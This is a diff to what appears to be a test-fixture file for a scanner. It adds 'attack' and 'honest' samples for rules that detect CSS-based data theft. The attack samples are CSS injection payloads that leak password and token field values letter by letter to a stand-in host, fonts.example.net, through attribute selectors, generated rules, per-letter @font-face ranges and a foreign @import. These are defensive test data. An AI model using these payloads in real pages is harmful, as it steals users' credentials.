@@ -844,4 +844,51 @@ const COMPUTED_HOSTS: readonly ScriptPack[] = [
   },
 ];
 
-export const EVASION_SCRIPTS: readonly ScriptPack[] = [...COMPUTED_HOSTS];
+const letters = [...'abcdefgh'];
+const STYLES: readonly ScriptPack[] = [
+  {
+    rule: 'style_reads_fields',
+    what: 'a field by its first letters',
+    attack: {
+      'web/a.css': letters.map((l) => `input[type=password][value^="${l}"],b{--glow:url(https://fonts.example.net/${l}.svg)}`).join('\n'),
+    },
+    honest: {
+      'web/a.css':
+        'input[value^="a"] { background: url(./a.svg) }\na[href^="https://"] { background: url(https://fonts.example.net/out.svg) }\ninput[value="on"] { color: red }',
+    },
+  },
+  {
+    rule: 'style_reads_fields',
+    what: 'styles that a script makes',
+    attack:
+      'for (const l of "abc") sheet.insertRule(`input[value$="${l}"] { background: url(https://fonts.example.net/${l}) }`);',
+    honest: 'document.querySelector(`input[value="${name}"]`).style.background = "url(https://fonts.example.net/a.png)";',
+  },
+  {
+    rule: 'style_reads_fields',
+    what: 'styles with an address that a script knows',
+    attack:
+      'for (const l of "abc") css += "[data-token*=\'" + l + "\'] { background-image: url(" + host + l + ") }";',
+  },
+  {
+    rule: 'style_reads_fields',
+    what: 'fonts for single letters',
+    attack: {
+      'web/a.css': letters
+        .map((l) => `@font-face { font-family: A; src: url(//fonts.example.net/${l}); unicode-range: U+00${l.charCodeAt(0).toString(16)}; }`)
+        .join('\n'),
+    },
+    honest: {
+      'web/a.css':
+        '@font-face { font-family: A; src: url(https://fonts.gstatic.com/a.woff2); unicode-range: U+0000-00FF; }\n@font-face { src: url(a.woff2); unicode-range: U+0041; }',
+    },
+  },
+  {
+    rule: 'style_loads_foreign',
+    what: 'a style of another host',
+    attack: { 'web/a.css': '@import url("https://fonts.example.net/a.css");' },
+    honest: { 'web/a.css': '@import url("https://fonts.googleapis.com/css2?family=Inter");\n@import "./b.css";' },
+  },
+];
+
+export const EVASION_SCRIPTS: readonly ScriptPack[] = [...COMPUTED_HOSTS, ...STYLES];
